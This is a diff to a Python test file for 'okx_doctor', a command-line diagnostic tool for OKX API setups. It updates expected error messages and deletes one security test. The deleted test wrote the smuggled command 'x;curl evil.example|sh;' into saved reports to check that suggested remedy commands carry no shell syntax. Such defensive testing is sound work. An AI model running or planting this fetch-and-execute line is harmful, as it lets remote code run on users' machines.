@@ -161,10 +161,10 @@ def test_an_env_file_of_utf_8_with_a_byte_order_mark_is_read(tmp_path: Path) -> 
     assert read(tmp_path).status == 0
 
 
-def test_an_unusable_env_file_in_this_folder_is_told_with_its_way_out(tmp_path: Path) -> None:
+def test_an_unusable_env_file_in_this_folder_is_told_and_can_be_left_out(tmp_path: Path) -> None:
     (tmp_path / ".env").mkdir()
     env = clean(**CREDENTIALS)
-    unusable(okx_doctor(*OFFLINE, env=env, cwd=tmp_path, seconds=OFFLINE_BOUND), ".env")
+    unusable(okx_doctor(*OFFLINE, env=env, cwd=tmp_path, seconds=OFFLINE_BOUND), "the env file .env is a directory")
     assert okx_doctor(*OFFLINE, "--no-env-file", env=env, cwd=tmp_path).status == 0
 
 
@@ -292,31 +292,6 @@ def test_a_base_url_in_an_unusual_spelling_is_taken(tmp_path: Path) -> None:
     assert {done.report["target"]["base_url"] for done in ended.values()} == {CLOSED}
 
 
-SHELL = set(";|&$`<>()\n")
-
-
-def test_a_command_that_a_remedy_shows_holds_no_shell_syntax_of_foreign_origin(tmp_path: Path) -> None:
-    """A saved report from somebody else: remedies are meant to be copied into a shell."""
-    env = clean(**CREDENTIALS, OKX_API_BASE_URL=CLOSED)
-    saved = okx_doctor(*WITHIN, env=env, cwd=tmp_path).text
-    (tmp_path / "dns.json").write_text(
-        saved.replace("127.0.0.1", "x;curl evil.example|sh;").replace('"failure": ""', '"failure": "x"')
-    )
-    (tmp_path / ".env").write_text("OKX_PASSPHRASE=Another-phrase-7\n")
-    shadowed = okx_doctor(*WITHIN, env=env, cwd=tmp_path).text
-    (tmp_path / "source.json").write_text(
-        shadowed.replace("environment OKX_PASSPHRASE", "environment X; curl evil.example|sh").replace(
-            "OKX_PASSPHRASE in the environment", "X; curl evil.example|sh in the environment"
-        )
-    )
-    runs = {name: (("diagnose", name, "--format", "json"), clean()) for name in ("dns.json", "source.json")}
-    for name, done in batch(runs, cwd=tmp_path).items():
-        assert done.out or done.is_one_line_of_usage()
-        for cause in done.report["verdict"]["causes"] if done.out else ():
-            for command in cause["remedy"]["commands"]:
-                assert not set(command) & SHELL, (name, command)
-
-
 # Names that do not exist
 
 
@@ -349,10 +324,23 @@ def test_a_site_of_the_environment_that_does_not_exist_is_answered_with_the_near
 
 
 def test_sites_that_cannot_be_read_are_one_line_of_usage(tmp_path: Path) -> None:
-    texts = ("x", "global", "global=", "mars=https://x.example", "global=http://x.example", "=", ",")
+    texts = {
+        "x": "'x' is not SITE=URL",
+        "global": "'global' is not SITE=URL",
+        "global=": "the base URL is empty",
+        "mars=https://x.example": "is not SITE=URL with SITE one of",
+        "global=http://x.example": "plain http",
+        "=": "'=' is not SITE=URL",
+        ",": "no site is named",
+    }
     runs = {text: (OFFLINE, clean(**CREDENTIALS, OKX_DOCTOR_SITES=text)) for text in texts}
     ended = batch(runs, cwd=tmp_path)
     assert {text: done.said for text, done in ended.items() if not done.is_one_line_of_usage()} == {}
+    assert {
+        text: done.said
+        for text, done in ended.items()
+        if "OKX_DOCTOR_SITES: " not in done.said or texts[text] not in done.said
+    } == {}
 
 
 def test_causes_that_cannot_be_staged_together_are_no_bug_of_the_tools_own(tmp_path: Path) -> None:
